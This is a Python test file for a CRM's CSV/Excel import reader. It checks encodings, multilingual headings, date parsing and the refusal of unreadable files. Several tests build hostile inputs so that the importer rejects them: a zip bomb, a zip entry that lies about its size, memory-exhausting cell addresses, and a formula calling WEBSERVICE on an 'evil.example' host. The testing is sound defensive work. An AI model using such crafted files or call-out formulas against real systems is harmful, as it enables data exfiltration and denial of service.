"""What can be read, what is refused, and in which words."""

import io
import zipfile
from collections.abc import Callable, Iterator
from datetime import date

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crm.errors import DomainError
from crm.imports import cells
from crm.imports.columns import match_columns
from crm.imports.reading import bytes_of, read_sheet
from crm.imports.sheets import MOST_BYTES, UnreadableFile, text_of
from tests.imports.conftest import csv_of, xlsx_of

SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(autouse=True)
def words(core_app: Flask) -> Iterator[None]:
    """What translated messages need."""
    with core_app.app_context():
        yield


def _rewritten(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    """A workbook with its parts changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, change(part.filename, old.read(part)))
    return out.getvalue()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_a_csv_file_is_read_whatever_program_wrote_it(encoding: str, delimiter: str) -> None:
    text = delimiter.join(["Förnamn", "Efternamn"]) + "\r\n" + delimiter.join(["Åsa", "Öberg"]) + "\r\n"
    sheet = read_sheet(text.encode(encoding))
    assert list(sheet.headings) == ["Förnamn", "Efternamn"]
    assert [list(row.cells) for row in sheet.rows] == [["Åsa", "Öberg"]]


def test_lines_are_counted_as_an_editor_shows_them() -> None:
    sheet = read_sheet(csv_of("", "Name;Phone", '"Ek\r\nEva";1', "", "Bo Ek;2"))
    assert [row.line for row in sheet.rows] == [3, 6]


def test_a_delimiter_inside_a_cell_does_not_confuse() -> None:
    sheet = read_sheet(csv_of('Name,E-mail,"Note; private; other"', '"Ek, Eva",eva@example.org,x'))
    assert list(sheet.rows[0].cells) == ["Ek, Eva", "eva@example.org", "x"]


def test_a_workbook_gives_values_dates_and_numbers() -> None:
    content = xlsx_of([["Name", "Phone", "Start date", "Year of birth"], ["Eva Ek", 701740605, date(2026, 3, 1), 1985]])
    cells_read = read_sheet(content).rows[0].cells
    assert [text_of(cell) for cell in cells_read] == ["Eva Ek", "701740605", "2026-03-01", "1985"]


def test_a_formula_is_read_as_the_value_it_had() -> None:
    out = io.BytesIO()
    import xlsxwriter

    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, ["First name", "Last name"])
    sheet.write_formula(1, 0, '=WEBSERVICE("http://evil.example")', None, "Eva")
    sheet.write_string(1, 1, "=1+1")
    workbook.close()
    assert [text_of(cell) for cell in read_sheet(out.getvalue()).rows[0].cells] == ["Eva", "=1+1"]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "empty"),
        (b"\r\n\r\n", "empty"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 100, "old or locked"),
        (b"\x89PNG\r\n\x00\x00", "neither a CSV"),
        (b"PK\x03\x04 not a zip at all", "damaged"),
        (b'Name;Phone\r\n"Eva' + b" x" * 200_000, "quotation mark"),
        (b"\xff\xfe\x00", "damaged"),
    ],
)
def test_what_cannot_be_read_is_refused_with_a_reason(content: bytes, said: str) -> None:
    with pytest.raises(UnreadableFile, match=said):
        read_sheet(content)


def test_a_zip_that_is_no_workbook_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("letter.txt", "hello")
    with pytest.raises(UnreadableFile, match="not an Excel workbook"):
        read_sheet(out.getvalue())


def test_a_zip_bomb_is_refused_before_it_is_opened() -> None:
    bomb = _rewritten(xlsx_of([["Name"]]), lambda name, part: b" " * 250_000_000 if name == SHEET else part)
    assert len(bomb) < 1_000_000
    with pytest.raises(UnreadableFile, match="unpacks"):
        read_sheet(bomb)


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    content = _rewritten(xlsx_of([["Name"]]), lambda name, part: part + b" " * 9_000_000 if name == SHEET else part)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        real = archive.getinfo(SHEET).file_size.to_bytes(4, "little")
    assert real in content
    lying = content.replace(real, (100).to_bytes(4, "little"))
    with pytest.raises(UnreadableFile):
        read_sheet(lying)


@pytest.mark.parametrize(
    ("address", "said"),
    [(b"XFD1048576", "columns"), (b"A1048576", "rows"), (b"GR200000", "unpacks"), (b"ZZZZ1", "columns")],
)
def test_a_cell_far_away_does_not_lay_out_billions_of_empty_ones(address: bytes, said: str) -> None:
    far = _rewritten(
        xlsx_of([["Name"], ["x"]]),
        lambda name, part: part.replace(b'r="A2"', b'r="' + address + b'"') if name == SHEET else part,
    )
    with pytest.raises(UnreadableFile, match=said):
        read_sheet(far)


def test_a_sheet_that_hides_its_addresses_in_another_encoding_is_refused() -> None:
    hidden = _rewritten(
        xlsx_of([["Name"], ["x"]]),
        lambda name, part: part.decode().encode("utf-16") if name == SHEET else part,
    )
    with pytest.raises(UnreadableFile):
        read_sheet(hidden)


def test_too_many_columns_or_rows_are_refused() -> None:
    with pytest.raises(UnreadableFile, match="columns"):
        read_sheet(csv_of(";".join(f"c{number}" for number in range(201))))
    with pytest.raises(UnreadableFile, match="rows"):
        read_sheet(b"Name\n" + b"x\n" * 200_001)


def test_a_file_of_more_than_20_megabytes_is_not_read() -> None:
    with pytest.raises(UnreadableFile, match="20 MB"):
        bytes_of(io.BytesIO(b"x" * (MOST_BYTES + 1)))


@pytest.mark.parametrize(
    "headings",
    [
        "First name;Last name;E-mail;Start date;Exit date;Exit reason",
        "Förnamn;Efternamn;E-post;Startdatum;Avslutsdatum;Avslutsorsak",
        "Fornavn;Etternavn;E-post;Startdato;Sluttdato;Avslutningsårsak",
        "Fornavn;Efternavn;E-mail;Startdato;Slutdato;Afslutningsårsag",
        "first_name;last_name;email;starts_on;exit_on;exit_reason",
    ],
)
def test_headings_are_understood_in_every_staff_language(headings: str) -> None:
    columns = match_columns(read_sheet(csv_of(headings, "x;y")), "participants")
    assert set(columns.places) == {"first_name", "last_name", "email", "starts_on", "exit_on", "exit_reason"}
    assert columns.ignored == []


def test_unknown_columns_are_named_and_identity_numbers_pointed_out() -> None:
    columns = match_columns(read_sheet(csv_of("Namn;Personnummer;Favourite colour", "x;y;z")), "participants")
    assert columns.ignored == ["Personnummer", "Favourite colour"]
    assert columns.has_identity_numbers


def test_two_columns_that_mean_the_same_are_refused() -> None:
    with pytest.raises(UnreadableFile, match="mean the same: Mobil and Telefon"):
        match_columns(read_sheet(csv_of("Namn;Mobil;Telefon", "x;1;2")), "participants")


def test_a_file_without_a_name_column_is_refused() -> None:
    with pytest.raises(UnreadableFile, match="First name and Last name"):
        match_columns(read_sheet(csv_of("Phone", "1")), "participants")


@pytest.mark.parametrize(
    "text", ["2026-03-01", "01.03.2026", "1/3/2026", "20260301", "2026/03/01", "2026-03-01 00:00:00"]
)
def test_days_are_understood_as_people_write_them(text: str) -> None:
    assert cells.day(text, "starts_on") == date(2026, 3, 1)


@pytest.mark.parametrize("text", ["2026-02-30", "tomorrow", "46082"])
def test_what_is_no_day_is_refused(text: str) -> None:
    with pytest.raises(DomainError) as refused:
        cells.day(text, "starts_on")
    assert refused.value.field == "starts_on"


def test_an_identity_number_is_no_year_of_birth() -> None:
    assert cells.year(1985.0, "birth_year") == 1985
    with pytest.raises(DomainError):
        cells.year("19850101-1234", "birth_year")


def test_words_of_the_lists_are_understood_in_every_language() -> None:
    for word in ("studies", "Studies", "Studier", "Utdanning", "uddannelse", "STUDIER"):
        assert cells.code_of(word, "exit_reason", "exit_reason") == "studies"
    for word, code in (("arabiska", "ar"), ("Ukrainian", "uk"), ("norsk", "nb"), ("sv", "sv"), ("العربية", "ar")):
        assert cells.language(word, "language") == code
    assert [cells.sex(word, "sex") for word in ("Kvinna", "mann", "F", "")] == ["woman", "man", "woman", None]


@given(content=st.binary(max_size=400))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_are_read_or_refused_in_words_and_nothing_else(content: bytes) -> None:
    for prefix in (b"", b"PK\x03\x04", b"Name;Phone\n"):
        try:
            sheet = read_sheet(prefix + content)
            match_columns(sheet, "participants")
        except UnreadableFile:
            continue
